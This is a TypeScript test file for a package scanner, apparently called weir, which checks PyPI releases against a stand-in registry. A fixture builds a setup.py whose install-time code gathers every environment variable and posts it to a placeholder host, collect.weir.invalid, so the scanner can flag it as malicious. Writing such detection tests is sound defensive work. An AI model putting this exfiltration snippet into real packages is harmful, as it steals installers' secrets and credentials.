import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { type PypiStandIn, startPypiStandIn } from '@weir/registries/pypi/stand-in';
import { tarball } from '@weir/testkit/archive';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { z } from 'zod';
import { startWeir, type WeirRun } from '../testing/run-weir.ts';

const home = mkdtempSync(join(tmpdir(), 'weir-scan-pypi-'));
const resultSchema = z.object({
  purl: z.string().nullable(),
  verdict: z.string().nullable(),
  complete: z.boolean(),
  error: z.string().nullable(),
  artifacts: z.array(z.object({ sha256: z.string(), filename: z.string() })),
  findings: z.array(z.object({ id: z.string(), artifact: z.string(), stage: z.string() })),
  skipped: z.array(z.object({ file: z.string(), reason: z.string() })),
});
const SETUP = [
  'import os, urllib.request',
  "body = ','.join(f'{k}={v}' for k, v in os.environ.items()).encode()",
  "urllib.request.urlopen('https://collect.weir.invalid/in', data=body)",
  'from setuptools import setup',
  "setup(name='acme-tool', version='1.2.0')",
];

let standIn: PypiStandIn;
let bad: Buffer;

beforeAll(async () => {
  standIn = await startPypiStandIn();
  bad = tarball()
    .file('acme_tool-1.2.0/PKG-INFO', 'Metadata-Version: 2.1\nName: acme-tool\nVersion: 1.2.0\n')
    .file('acme_tool-1.2.0/setup.py', `${SETUP.join('\n')}\n`)
    .build();
  const { world } = standIn;
  world.upload({ name: 'Acme.Tool', version: '1.1.0', files: ['acme_tool-1.1.0-py3-none-any.whl'] });
  world.upload({
    name: 'Acme.Tool',
    version: '1.2.0',
    files: ['acme_tool-1.2.0-py3-none-any.whl', { filename: 'acme_tool-1.2.0.tar.gz', content: bad }],
  });
  world.upload({ name: 'Acme.Tool', version: '1.3.0rc1', files: ['acme_tool-1.3.0rc1.tar.gz'] });
  world.upload({ name: 'held', version: '1.0', files: ['held-1.0.tar.gz'] });
  world.quarantine('held');
  world.upload({ name: 'withdrawn', version: '1.0', files: ['withdrawn-1.0-py3-none-any.whl'] });
  world.yank('withdrawn', '1.0', 'broken');
});
afterAll(async () => {
  await standIn[Symbol.asyncDispose]();
  rmSync(home, { recursive: true });
});

/** Runs `weir scan` with pip told to use the stand-in. */
async function scan(target: string, ...args: readonly string[]): Promise<WeirRun> {
  const url = new URL(`${standIn.url}/simple`);
  url.username = 'ann';
  url.password = 's3cret';
  const env = { HOME: home, PIP_CONFIG_FILE: '/dev/null', PIP_INDEX_URL: url.href };
  return startWeir(['scan', target, ...args], env).ended;
}

async function resultOf(target: string): Promise<z.infer<typeof resultSchema>> {
  const { stdout, stderr } = await scan(target, '--format', 'ndjson');
  return resultSchema.parse(JSON.parse(stdout || `{"stderr":${JSON.stringify(stderr)}}`));
}

describe('weir scan of a release on PyPI', () => {
  it.each(['pypi:acme_tool==1.2', 'pypi:Acme.Tool', 'pkg:pypi/acme-tool@1.2.0'])(
    'reads every file of %s and gives one verdict, the worst',
    async (target) => {
      const result = await resultOf(target);

      expect(result).toMatchObject({
        purl: 'pkg:pypi/acme-tool@1.2.0',
        error: null,
        complete: true,
        verdict: 'malicious',
        skipped: [],
      });
      expect(result.artifacts.map(({ filename }) => filename)).toEqual([
        'acme_tool-1.2.0-py3-none-any.whl',
        'acme_tool-1.2.0.tar.gz',
      ]);
      const worst = result.findings.find(
        ({ stage, id }) => stage === 'install' && !id.startsWith('analysis'),
      );
      expect(worst?.artifact).toBe(result.artifacts[1]?.sha256);
    },
  );

  it('tells a person which file it is', async () => {
    const run = await scan('pypi:acme-tool==1.2.0');

    expect(run.status).toBe(1);
    expect(run.stdout).toMatch(/^malicious .*pkg:pypi\/acme-tool@1\.2\.0 .*2 files/);
    expect(run.stdout).toMatch(/acme_tool-1\.2\.0\.tar\.gz: setup\.py:\d+, runs at install/);
  });

  it('uses the credentials of the index', async () => {
    await resultOf('pypi:acme-tool==1.1.0');

    const expected = `Basic ${Buffer.from('ann:s3cret').toString('base64')}`;
    const seen = standIn.requests.filter(({ path }) => path.includes('1.1.0')).map(({ headers }) => headers);
    expect(seen.length).toBeGreaterThan(1);
    expect(seen.map(({ authorization }) => authorization)).toEqual(seen.map(() => expected));
  });

  it.each([
    ['pypi:held', /^held is in quarantine: .*scan a copy/],
    ['pypi:acme-tool==9', /no files of version 9 .*its newest is 1\.2\.0/],
    ['pypi:nobody==1', /knows no project nobody .*pip config list/],
    ['pypi:withdrawn', /every release of withdrawn is yanked: name a version/],
    ['pypi:../etc==1', /name==version/],
    ['pypi:-x==1', /no project on PyPI can have this name/],
  ])('says of %s in one line what is wrong and what to do', async (target, message) => {
    const run = await scan(target);

    expect(run.status).toBe(2);
    expect((await resultOf(target)).error?.replace(/^[A-Z_]+: /, '')).toMatch(message);
    expect(run.stdout).toMatch(/^failed /);
  });

  it('reads a yanked release that is named by its version', async () => {
    expect(await resultOf('pypi:withdrawn==1.0')).toMatchObject({ verdict: 'benign', error: null });
  });

  it('refuses bytes that are not those which the index declares, and calls the rest incomplete', async () => {
    standIn.knobs.arm('file', { kind: 'corrupt' });

    const result = await resultOf('pypi:acme-tool==1.2.0');

    expect(result.artifacts).toHaveLength(1);
    expect(result.complete).toBe(false);
    expect(result.skipped[0]?.file).toBe('acme_tool-1.2.0-py3-none-any.whl');
    expect(result.skipped[0]?.reason).toMatch(/does not have the sha256 that the registry declares/);
  });
});
